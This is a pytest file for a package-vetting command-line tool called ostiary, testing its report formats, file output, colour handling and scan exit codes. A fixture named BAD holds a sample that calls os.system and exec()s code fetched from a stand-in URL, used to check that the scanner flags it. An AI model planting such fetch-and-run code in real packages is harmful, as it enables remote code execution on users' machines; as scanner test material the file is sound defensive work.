"""Every format through the real command line: the result on standard output, all else beside it."""

import json
import os
import re
import stat
from importlib.resources import files
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from ostiary.core.exits import Exit
from world import build
from world.front import Front
from world.index import FakeIndex

FORMATS = ("text", "json", "jsonl", "sarif", "markdown", "html")
ESCAPE = "\x1b"


def schema() -> Any:
    found = list(files("ostiary.report").joinpath("schema").iterdir())
    (name,) = [one for one in found if one.name.endswith(".json")]
    return json.loads(name.read_text("utf-8"))


def wheel(front: Front, name: str = "thing", files: build.Files | None = None) -> Path:
    filename, body = build.wheel(name, "1.0", files)
    path = front.cwd / filename
    path.write_bytes(body)
    return path


BAD = {
    "thing.py": "import os, urllib.request\nos.system('true')\nexec(urllib.request.urlopen('http://example.invalid').read())\n"
}


def shaped(kind: str, text: str) -> None:
    """The text is of its format."""
    match kind:
        case "json":
            jsonschema.validate(json.loads(text), schema())
        case "jsonl":
            assert all(json.loads(line)["verdict"] for line in text.splitlines())
        case "sarif":
            assert json.loads(text)["version"] == "2.1.0"
        case "html":
            assert text.startswith("<!doctype html>")
            assert text.rstrip().endswith("</html>")
        case "markdown":
            assert text.startswith(("### ", "**2 subjects: "))
        case _:
            assert text.startswith(("ALLOW", "REVIEW", "BLOCK", "INSUFFICIENT"))


@pytest.mark.parametrize("kind", FORMATS)
def test_vet_in_every_format_through_pipes(front: Front, index: FakeIndex, kind: str) -> None:
    index.publish("thing", "1.0")
    said = front.run("vet", "--format", kind, "thing")
    assert (said.code, said.err) == (Exit.OK, "")
    assert ESCAPE not in said.out
    assert said.out.endswith("\n")
    assert not said.out.endswith("\n\n\n")
    shaped(kind, said.out)


@pytest.mark.parametrize("kind", FORMATS)
def test_scan_in_every_format(front: Front, kind: str) -> None:
    wheel(front)
    wheel(front, "other", {"other.py": BAD["thing.py"]})
    said = front(
        "scan", "--format", kind, "thing-1.0-py3-none-any.whl", "other-1.0-py3-none-any.whl"
    )
    assert said.err == ""
    assert ESCAPE not in said.out
    shaped(kind, said.out)
    assert "other" in said.out


@pytest.mark.parametrize("kind", FORMATS)
def test_output_to_a_file(front: Front, index: FakeIndex, kind: str) -> None:
    index.publish("thing", "1.0")
    target = front.cwd / "report"
    said = front("vet", "--format", kind, "--output", "report", "thing")
    assert (said.code, said.out) == (Exit.OK, "")
    shaped(kind, target.read_text("utf-8"))
    assert stat.S_IMODE(target.stat().st_mode) & 0o400
    assert [one.name for one in front.cwd.iterdir()] == ["report"], (
        "no half-written file stays behind"
    )


def test_a_file_that_cannot_be_written_leaves_the_old_one(front: Front, index: FakeIndex) -> None:
    index.publish("thing", "1.0")
    (front.cwd / "report").mkdir()
    said = front("vet", "--output", "report", "thing")
    assert (said.code, said.out) == (Exit.USAGE, "")
    assert said.err.startswith("ostiary: cannot write report")
    assert [one.name for one in front.cwd.iterdir()] == ["report"]
    missing = front("vet", "--output", "no/such/folder", "thing")
    assert (missing.code, missing.out) == (Exit.USAGE, "")
    assert "no/such/folder" in missing.err


def test_the_html_beside_another_format(front: Front, index: FakeIndex) -> None:
    index.publish("thing", "1.0")
    said = front("vet", "--format", "json", "--html", "page.html", "thing")
    shaped("json", said.out)
    assert said.err == "the whole report: page.html\n"
    page = (front.cwd / "page.html").read_text("utf-8")
    shaped("html", page)
    assert "pypi thing 1.0" in re.sub(r"<[^>]*>", "", page)
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page), "self-contained"
    quiet = front("vet", "--quiet", "--html", "page.html", "thing")
    assert quiet.err == ""


def test_quiet_is_short_and_still_the_verdict(front: Front, index: FakeIndex) -> None:
    index.publish("thing", "1.0")
    quiet, usual, more = (
        front("vet", *flags, "thing").out for flags in (("--quiet",), (), ("--verbose",))
    )
    assert quiet.startswith("ALLOW")
    assert len(quiet.splitlines()) < len(usual.splitlines()) < len(more.splitlines())


@pytest.mark.parametrize("colour", ["auto", "never"])
def test_no_colour_in_pipes(front: Front, index: FakeIndex, colour: str) -> None:
    index.publish("thing", "1.0")
    front.environ["TERM"] = "xterm-256color"
    front.environ["FORCE_COLOR"] = "1"
    said = front.run("vet", "--colour", colour, "thing")
    assert ESCAPE not in said.out + said.err


def test_colour_when_it_is_asked_for(front: Front, index: FakeIndex) -> None:
    index.publish("thing", "1.0")
    coloured = front("vet", "--colour", "always", "--fresh", "thing").out
    assert ESCAPE in coloured
    assert re.sub(r"\x1b\[[0-9;]*m", "", coloured) == front("vet", "--fresh", "thing").out


def test_one_line_for_each_path(front: Front) -> None:
    good = wheel(front)
    (front.cwd / "bad.whl").write_bytes(b"no archive")
    (front.cwd / "folder").mkdir()
    (front.cwd / "folder" / "one.py").write_text("VALUE = 1\n")
    (front.cwd / "single.py").write_text(BAD["thing.py"])
    paths = [good.name, "bad.whl", "folder", "single.py"]
    said = front("scan", "--format", "jsonl", *paths)
    rows = {row["path"]: row for row in map(json.loads, said.out.splitlines())}
    assert set(rows) == set(paths)
    assert said.err == ""
    assert said.code == Exit.FOUND, "a block is worse than a file that cannot be read"
    for row in rows.values():
        assert {"path", "verdict", "score", "findings"} <= set(row)
        assert 0 <= row["score"] <= 100
    assert rows[good.name]["verdict"] == "allow"
    assert rows["bad.whl"]["verdict"] == "insufficient"
    assert rows["single.py"]["findings"]
    assert {"check", "subject", "severity", "confidence", "message", "path", "line"} <= set(
        rows["single.py"]["findings"][0]
    )


def test_paths_from_a_list(front: Front) -> None:
    wheel(front)
    wheel(front, "other")
    names = sorted(path.name for path in front.cwd.iterdir())
    (front.cwd / "list").write_text("\r\n".join(names) + "\r\n\r\n")
    said = front("scan", "--format", "jsonl", "--from", "list")
    assert sorted(json.loads(line)["path"] for line in said.out.splitlines()) == names
    assert said.code == Exit.OK


def test_paths_from_standard_input(front: Front) -> None:
    wheel(front)
    odd = os.fsdecode(b"odd \xff name.py")
    (front.cwd / odd).write_text("VALUE = 1\n")
    given = b"thing-1.0-py3-none-any.whl\n" + os.fsencode(odd) + b"\nno-such-file.py\n"
    said = front.run("scan", "--format", "jsonl", "--from", "-", given=given)
    rows = [json.loads(line) for line in said.out.splitlines()]
    assert {row["path"]: row["verdict"] for row in rows} == {
        "thing-1.0-py3-none-any.whl": "allow",
        "odd \\udcff name.py": "allow",
        "no-such-file.py": "insufficient",
    }, said.err
    assert said.code == Exit.INSUFFICIENT
    assert said.err == ""


@pytest.mark.parametrize("words", [(), ("--from", "no-such-list"), ("no-such-path",)])
def test_nothing_to_scan(front: Front, words: tuple[str, ...]) -> None:
    said = front("scan", *words)
    assert (said.code, said.out) == (Exit.USAGE, "")
    assert said.err.startswith("ostiary: ")


def test_a_broken_archive_does_not_end_a_scan_of_many(front: Front) -> None:
    names = []
    for number in range(6):
        names.append(wheel(front, f"thing{number}").name)
    (front.cwd / names[2]).write_bytes(b"PK\x03\x04")
    said = front.run("scan", "--format", "jsonl", "--jobs", "2", *names)
    rows = {row["path"]: row["verdict"] for row in map(json.loads, said.out.splitlines())}
    assert rows == {name: "insufficient" if name == names[2] else "allow" for name in names}
    assert said.code == Exit.INSUFFICIENT


def test_a_reader_that_goes_away(front: Front) -> None:
    wheel(front)
    process = front.start("scan", "--format", "json", "thing-1.0-py3-none-any.whl")
    assert process.stdout is not None
    process.stdout.close()
    assert process.stderr is not None
    assert b"Traceback" not in process.stderr.read()
    process.wait(timeout=60)
    for stream in (process.stdin, process.stderr):
        assert stream is not None
        stream.close()
